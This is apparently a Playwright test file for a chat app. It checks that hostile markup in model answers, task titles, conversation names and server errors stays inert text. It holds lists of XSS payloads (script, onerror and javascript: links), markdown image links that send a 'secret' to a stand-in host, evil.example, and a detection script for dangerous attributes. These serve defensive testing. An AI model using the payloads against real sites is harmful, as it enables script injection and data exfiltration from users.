"""Text that wants to be more than text: in answers, titles, names of conversations, errors (T-01 to T-04)."""

import json
from collections.abc import Callable
from itertools import pairwise

import pytest
from playwright.sync_api import Dialog, Page, Route, expect

from tests.browser.arriving import arrive
from tests.browser.talking import ask, only_chromium, rest, say
from tests.support.browsers import Visit
from tests.support.fake_provider import FakeProvider, Says

EVIL = "https://evil.example"
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/p.png>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<input onfocus=alert(1) autofocus>",
    f"<form action={EVIL}><input name=a></form>",
    "<a href='javascript:alert(1)'>x</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<p style='background:url({EVIL})'>x</p>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<openai-chatkit onclick=alert(1)></openai-chatkit>",
)
LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVa&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f'[x]({EVIL}" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    f"![x]({EVIL}/?d=secret)",
    "![x](//evil.example/a.png)",
    f"![x][i]\n\n[i]: {EVIL}/a.png",
    f"[![x]({EVIL}/a.png)](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    f'![x]({EVIL}/a.png "t" onerror=alert(1))',
)
PLACES = ("{}", "- {}", "> {}", "# {}", "| a |\n|---|\n| {} |", "```html\n{}\n```")
LIMIT = 30_000

HARM = """() => {
    const root = document.querySelector("openai-chatkit").shadowRoot;
    const found = [...root.querySelectorAll("script, iframe, object, embed, base, link, meta, img, video, svg script")];
    for (const one of [document, root].flatMap((place) => [...place.querySelectorAll("*")])) {
        for (const { name, value } of one.attributes) {
            if (name.startsWith("on") || /^\\s*(javascript|vbscript|data:text)/i.test(value)) found.push(one);
        }
    }
    return found.map((one) => one.outerHTML.slice(0, 120));
}"""


@pytest.fixture
def dialogs(model_visit: Visit) -> list[str]:
    """Dialogs that opened: each is a script of somebody else's that ran."""
    opened: list[str] = []

    def refuse(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    model_visit.page.on("dialog", refuse)
    return opened


def one_line(text: str) -> str:
    """As a title, which has no tabs and no second line."""
    return text.replace("\t", " ").splitlines()[0]


def assert_harmless(visit: Visit, dialogs: list[str]) -> None:
    assert visit.page.evaluate(HARM) == []
    assert dialogs == []
    visit.assert_quiet()


@only_chromium
def test_hostile_answers_stay_text(model_visit: Visit, provider: FakeProvider, dialogs: list[str]):
    """T-01, T-03: over a hundred payloads, cut into pieces of seven characters so that each is half there once."""
    corpus = "\n\n".join(place.format(one) for place in PLACES for one in (*MARKUP, *LINKS))
    provider.script(Says(*(corpus[at : at + 7] for at in range(0, len(corpus), 7)), pace=0.0005))
    page = arrive(model_visit)
    answer = ask(page, "attack me")
    expect(answer).to_contain_text("<script>alert(1)</script>")
    assert_harmless(model_visit, dialogs)
    page.reload()
    expect(page.get_by_role("article", name="Assistant said")).to_contain_text("<script>alert(1)</script>")
    assert_harmless(model_visit, dialogs)


def test_address_that_comes_in_two_pieces_is_never_asked_for(
    model_visit: Visit, provider: FakeProvider, dialogs: list[str]
):
    """T-03 in each engine: an image is how a model's text would carry a secret out."""
    pieces = [
        f"![a]({EVIL}/?d=",
        "secret",
        "",
        ") and <img src='",
        f"{EVIL}/x.png'> ![b][r]\n\n[r]: {EVIL}/b.png",
        " end",
    ]
    provider.script(Says(*pieces, pace=0.1))
    page = arrive(model_visit)
    expect(ask(page, "leak")).to_contain_text("end")
    assert_harmless(model_visit, dialogs)


@only_chromium
def test_hostile_titles_stay_text_in_widgets_lists_and_history(model_visit: Visit, dialogs: list[str]):
    """T-02: where the person's own words are shown again."""
    page = arrive(model_visit)
    for one in (*MARKUP[:12], *LINKS[:6]):
        rest(
            page, "POST", "/api/tasks", {"title": one.replace("\t", " ").split("\n")[0], "notes": one, "tags": ["a-b"]}
        )
    expect(page.get_by_role("checkbox", name="Done: <img src=x onerror=alert(1)>")).to_be_visible()
    page.get_by_role("button", name="<img src=x onerror=alert(1)>").first.click()
    expect(page.get_by_label("Title", exact=True)).to_have_value("<img src=x onerror=alert(1)>")
    page.keyboard.press("Escape")
    ask(page, "<img src=x onerror=alert(1)> [x](javascript:alert(2))")
    page.get_by_role("button", name="History").click()
    page.get_by_role("button", name="Rename: ").click()
    page.get_by_label("Title", exact=True).fill("<svg onload=alert(1)>")
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Rename: <svg onload=alert(1)>")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("heading", name="<svg onload=alert(1)>")).to_be_visible()
    assert_harmless(model_visit, dialogs)


@only_chromium
def test_hostile_titles_stay_text_in_the_widgets_of_the_engine(visit: Visit):
    page = arrive(visit)
    for one in (*MARKUP[:12], *LINKS[:6]):
        rest(page, "POST", "/api/tasks", {"title": one_line(one)})
    shown = ask(page, "show my tasks")
    expect(shown.get_by_text("<svg onload=alert(1)></svg>")).to_be_visible()
    assert page.evaluate(HARM) == []
    visit.assert_quiet()


@only_chromium
def test_hostile_error_of_a_server_stays_text(model_visit: Visit, dialogs: list[str]):
    page = arrive(model_visit)
    error = {"error": {"code": "<b>", "message": "<img src=x onerror=alert(1)> [x](javascript:alert(1))"}}

    def answer(route: Route) -> None:
        route.fulfill(status=400, content_type="application/json", body=json.dumps(error))

    page.route("**/chatkit", answer)
    say(page, "hello")
    expect(page.get_by_role("alert").filter(has_text="<img src=x onerror=alert(1)>")).to_be_visible()
    assert page.evaluate(HARM) == []
    assert dialogs == []


@only_chromium
def test_answers_of_one_mark_only_keep_the_tab_awake(
    model_visit: Visit, provider: FakeProvider, note: Callable[[str, float], None]
):
    """T-04: the longest pause of the main thread is noted."""
    page = arrive(model_visit)
    for mark in ("[", ">", "|", "*", "`", "- ", "<a "):
        text = mark * (LIMIT // len(mark))
        provider.script(Says(*(text[at : at + 1500] for at in range(0, len(text), 1500))))
        page.evaluate(WATCH_FRAMES)
        ask(page, "freeze")
        frames: list[float] = page.evaluate("frames")
        longest = max(later - earlier for earlier, later in pairwise(frames))
        note(f"longest pause at {LIMIT} characters of {mark!r}", longest)
        assert _answers_to_keys(page)


WATCH_FRAMES = """() => {
    globalThis.frames = [performance.now()];
    const mine = frames;
    const look = () => { mine.push(performance.now()); if (frames === mine) requestAnimationFrame(look); };
    requestAnimationFrame(look);
}"""


def _answers_to_keys(page: Page) -> bool:
    message = page.get_by_role("textbox", name="Message")
    message.press("a")
    typed = message.input_value()
    message.clear()
    return typed == "a"
